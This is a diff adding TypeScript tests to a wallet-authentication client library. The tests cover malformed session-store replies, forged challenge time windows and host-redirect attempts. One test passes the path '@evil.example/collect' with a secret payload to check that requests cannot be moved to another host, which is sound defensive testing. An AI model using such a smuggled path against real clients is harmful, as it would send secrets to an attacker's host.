@@ -207,3 +207,69 @@ describe('client kit: forged challenges', () => {
     expect((e as AgentvaultError).code).toBe('MESSAGE_MISMATCH');
   });
 });
+
+describe('sessions: a store reply of the wrong shape fails closed, typed', () => {
+  it('get() answering undefined, a non-string wallet, a non-integer expiry or a non-string record: STORE_UNAVAILABLE', async () => {
+    const s = setup(15);
+    const p = peppers();
+    const st = store();
+    const begun = await beginSession(s.vault, { peppers: p, store: st });
+    const real = (await st.get(begun.id))!;
+    const replies: unknown[] = [
+      undefined,
+      42,
+      { ...real, wallet: 123 },
+      { ...real, wallet: { toString: () => real.wallet } },
+      { ...real, expiresAt: String(real.expiresAt) },
+      { ...real, expiresAt: Number.NaN },
+      { ...real, record: { toString: () => real.record } },
+    ];
+    for (const reply of replies) {
+      const bad = { create: async () => {}, get: async () => reply, reseal: async () => false, delete: async () => {}, deleteWallet: async () => 0 };
+      const e = await openSession(begun.token!, { peppers: p, store: bad as never, vault: () => s.vault.data }).then(
+        () => 'opened',
+        (x: unknown) => x,
+      );
+      expect(e).toBeInstanceOf(AgentvaultError);
+      expect((e as AgentvaultError).code).toBe('STORE_UNAVAILABLE');
+    }
+  });
+});
+
+describe('client kit: challenge time window and request paths', () => {
+  async function longLived(purpose: 'unlock' | 'sign-in', text: (m: string) => string) {
+    return text(await issue(purpose));
+  }
+  it('a challenge valid far longer than its purpose allows, or not valid yet, is refused', async () => {
+    const { checkChallenge } = await import('../../src/client/index.js');
+    const exp = { domain: DOMAIN, uri: URI, chain: 'mainnet' };
+    const farFuture = await longLived('unlock', (m) => m.replace(/Expiration Time: [^\n]+/, 'Expiration Time: 2099-01-01T00:00:00Z'));
+    expect(() => checkChallenge(farFuture, 'unlock', exp, w.address)).toThrow(expect.objectContaining({ code: 'LIFETIME_TOO_LONG' }));
+    const later = new Date(Date.now() + 3_600_000).toISOString().replace(/\.\d+Z$/, 'Z');
+    const notYet = await longLived('sign-in', (m) => m.replace(/(Expiration Time: [^\n]+)/, `$1\nNot Before: ${later}`));
+    expect(() => checkChallenge(notYet, 'sign-in', exp, w.address)).toThrow(expect.objectContaining({ code: 'MESSAGE_NOT_YET_VALID' }));
+  });
+
+  it('request(): a path that is not absolute cannot move the request to another host', async () => {
+    const urls: string[] = [];
+    const fetchFn = (async (url: string) => {
+      urls.push(url);
+      return { ok: true, status: 200, statusText: 'OK', json: async () => ({}) };
+    }) as unknown as typeof fetch;
+    const account = { address: w.address, publicKey: w.publicKey };
+    const client = createAgentvaultClient({ wallet: { features: {} }, account, chain: 'mainnet', domain: DOMAIN, origin: URI, fetch: fetchFn });
+    const e = await client.request('POST', '@evil.example/collect', { secret: 1 }).then(
+      () => undefined,
+      (x: unknown) => x,
+    );
+    for (const u of urls) expect(new URL(u).host).toBe(DOMAIN);
+    expect(e).toBeInstanceOf(AgentvaultError);
+  });
+
+  it('an account whose address is not base58 is a typed refusal', () => {
+    const fetchFn = (async () => ({})) as unknown as typeof fetch;
+    expect(() =>
+      createAgentvaultClient({ wallet: { features: {} }, account: { address: '0OIl', publicKey: new Uint8Array(32) }, chain: 'mainnet', domain: DOMAIN, origin: URI, fetch: fetchFn }),
+    ).toThrow(AgentvaultError);
+  });
+});
